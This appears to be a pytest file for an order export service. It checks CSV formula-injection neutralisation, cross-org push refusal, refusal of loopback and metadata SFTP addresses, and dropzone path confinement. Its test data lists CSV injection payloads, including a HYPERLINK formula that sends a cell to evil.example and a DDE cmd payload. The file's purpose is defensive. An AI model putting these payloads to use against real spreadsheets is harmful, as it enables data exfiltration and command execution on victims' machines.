"""What export-service checks itself: the org a push request claims, CSV cells a
spreadsheet would run, where a local dropzone may lie and which SFTP hosts it reaches."""

import csv
import io
import uuid
from datetime import UTC, datetime

import pytest
from export_service.adapters.sftp import is_refused_address
from export_service.domain.connection import ConnectorType, LocalSettings, Secrets
from export_service.domain.errors import InvalidConnection
from export_service.domain.renderers import CSV_COLUMNS, FileFormat, neutralise_cell, render
from export_service.entrypoints.consumer import make_push_handler, refuse_untrusted
from export_service.service_layer import connections as uc
from export_service.service_layer.exports import PushRequest, record_push_requests
from export_service.settings import ExportSettings
from orderflow_shared.messaging.envelope import Envelope

EXPORT_ID = uuid.UUID("22222222-2222-4222-8222-222222222222")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-5 widgets",
    "\tindented",
    "\rcarriage",
    '=1+2";=3',
]


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_prefixed_with_a_quote_and_quoted(
    make_snapshot, hostile: str
) -> None:
    content = render(make_snapshot(description=hostile), FileFormat.CSV, EXPORT_ID)
    line = content.decode().split("\r\n", 1)[1]
    assert ",\"'" in line  # the cell starts with a quote inside double quotes
    assert _rows(content)[1][CSV_COLUMNS.index("description")] == "'" + hostile


def test_neutralised_cells_double_embedded_quotes() -> None:
    assert neutralise_cell('=A1&"x"') == '"\'=A1&""x"""'
    assert neutralise_cell("Widget") == "Widget"
    assert neutralise_cell("a,b") == '"a,b"'


def test_every_column_is_guarded_and_harmless_rows_are_unchanged(make_snapshot) -> None:
    snap = make_snapshot(external_ref="=cmd", description="Widget")
    row = _rows(render(snap, FileFormat.CSV, EXPORT_ID))[1]
    assert row[CSV_COLUMNS.index("external_ref")] == "'=cmd"
    assert row[CSV_COLUMNS.index("quantity")] == "3"
    assert row[CSV_COLUMNS.index("unit_price")] == "9.50"
    plain = render(make_snapshot(), FileFormat.CSV, EXPORT_ID)
    writer_output = io.StringIO()
    rows = _rows(plain)
    csv.writer(writer_output, lineterminator="\r\n").writerows(rows)
    assert plain.decode() == writer_output.getvalue()  # same bytes as before the guard


def test_the_guard_can_be_turned_off_for_erps_that_need_raw_values(make_snapshot) -> None:
    snap = make_snapshot(description="=SUM(A1:A2)")
    raw = render(snap, FileFormat.CSV, EXPORT_ID, csv_formula_guard=False)
    assert _rows(raw)[1][CSV_COLUMNS.index("description")] == "=SUM(A1:A2)"
    # JSON and XML carry text, not formulas: unchanged either way
    assert b'"description": "=SUM(A1:A2)"' in render(snap, FileFormat.JSON, EXPORT_ID)


def _push_envelope(push, org: str) -> Envelope:
    return Envelope.wrap(
        push,
        source="/orderflow/draft-api",
        subject=str(push.draft_id),
        org_id=org,
        actor_id="user-1",
    )


def test_a_push_request_whose_envelope_org_is_not_the_orders_is_refused(make_push) -> None:
    push = make_push(org_id="victim")
    reason = refuse_untrusted(_push_envelope(push, "attacker"))
    assert reason is not None and "'attacker' is not the order's org 'victim'" in reason
    assert refuse_untrusted(_push_envelope(push, "victim")) is None


def test_a_push_request_for_another_drafts_order_is_refused(make_push) -> None:
    push = make_push().model_copy(update={"draft_id": uuid.uuid4()})
    assert "carries the order of draft" in (refuse_untrusted(_push_envelope(push, "org-a")) or "")


async def test_a_mismatched_push_request_records_no_export(uow, clock, make_push) -> None:
    push = make_push(org_id="victim")
    handler = make_push_handler(lambda: uow, clock, lambda: None)
    await handler([_push_envelope(push, "attacker")])
    due = await record_push_requests(uow, [PushRequest(uuid.uuid4(), "attacker", push)], clock)
    assert due == 0
    assert not uow.committed_exports


@pytest.mark.parametrize(
    ("address", "refused"),
    [
        ("127.0.0.1", True),
        ("127.8.9.10", True),
        ("::1", True),
        ("169.254.169.254", True),
        ("fe80::1%eth0", True),
        ("::ffff:127.0.0.1", True),
        ("0.0.0.0", True),
        ("10.1.2.3", False),
        ("192.0.2.10", False),
        ("2001:db8::1", False),
    ],
)
def test_loopback_and_link_local_sftp_addresses_are_refused(address: str, refused: bool) -> None:
    assert is_refused_address(address) is refused


def test_private_sftp_targets_are_allowed_in_development_or_by_the_setting() -> None:
    assert ExportSettings(orderflow_env="development").sftp_private_targets_allowed
    assert not ExportSettings(orderflow_env="test").sftp_private_targets_allowed
    assert ExportSettings(
        orderflow_env="test", export_sftp_allow_private_targets=True
    ).sftp_private_targets_allowed


class Refusing:
    def refusal(self, org_id: str, directory: str) -> str | None:
        return None if directory.startswith(f"/roots/{org_id}/") else f"not in /roots/{org_id}"


def _local(directory: str) -> uc.CreateConnection:
    return uc.CreateConnection(
        name="local",
        connector_type=ConnectorType.LOCAL,
        is_active=True,
        file_format=FileFormat.CSV,
        file_name_template="{export_id}",
        sftp=None,
        local=LocalSettings(directory),
        secrets=Secrets(),
    )


async def test_a_local_directory_outside_the_orgs_root_is_refused_on_create_and_update(
    uow, clock
) -> None:
    admin = uc.Actor("org-a", "admin-1")
    with pytest.raises(InvalidConnection, match="not in /roots/org-a"):
        await uc.create_connection(uow, admin, _local("/etc"), clock, local_policy=Refusing())
    created = await uc.create_connection(
        uow, admin, _local("/roots/org-a/in"), clock, local_policy=Refusing()
    )
    with pytest.raises(InvalidConnection):
        await uc.update_connection(
            uow,
            admin,
            created.id,
            uc.UpdateConnection(local=LocalSettings("/roots/org-b/in")),
            clock,
            local_policy=Refusing(),
        )
    assert (await uc.get_connection(uow, admin, created.id)).local == LocalSettings(
        "/roots/org-a/in"
    )


async def test_without_a_policy_no_local_directory_is_accepted(uow, clock) -> None:
    with pytest.raises(InvalidConnection, match="disabled"):
        await uc.create_connection(uow, uc.Actor("org-a", "u"), _local("/tmp/x"), clock)


async def test_the_csv_guard_is_a_connection_setting(uow, clock) -> None:
    admin = uc.Actor("org-a", "admin-1")
    command = _local("/roots/org-a/in")
    created = await uc.create_connection(uow, admin, command, clock, local_policy=Refusing())
    assert created.csv_formula_guard is True
    updated = await uc.update_connection(
        uow,
        admin,
        created.id,
        uc.UpdateConnection(csv_formula_guard=False),
        clock,
        local_policy=Refusing(),
    )
    assert updated.csv_formula_guard is False


async def test_restating_publishes_every_connection_keyed_by_its_id(uow, clock) -> None:
    for org in ("org-a", "org-b"):
        await uc.create_connection(
            uow,
            uc.Actor(org, "u"),
            _local(f"/roots/{org}/in"),
            clock,
            local_policy=Refusing(),
        )
    uow.outbox.clear()
    assert await uc.restate_connections(uow) == 2
    assert [m.data.change for m in uow.outbox] == ["restated", "restated"]
    assert all(m.key == str(m.data.connection_id) for m in uow.outbox)
    assert {m.data.is_active for m in uow.outbox} == {True}
    assert all(m.data.changed_at == datetime(2026, 3, 1, 12, 0, tzinfo=UTC) for m in uow.outbox)


async def test_activating_an_active_connection_restates_it(uow, clock) -> None:
    admin = uc.Actor("org-a", "admin-1")
    created = await uc.create_connection(
        uow, admin, _local("/roots/org-a/in"), clock, local_policy=Refusing()
    )
    uow.outbox.clear()
    again = await uc.set_active(uow, admin, created.id, True, clock, local_policy=Refusing())
    assert again.is_active
    assert [(m.key, m.data.change, m.data.is_active) for m in uow.outbox] == [
        (str(created.id), "restated", True)
    ]
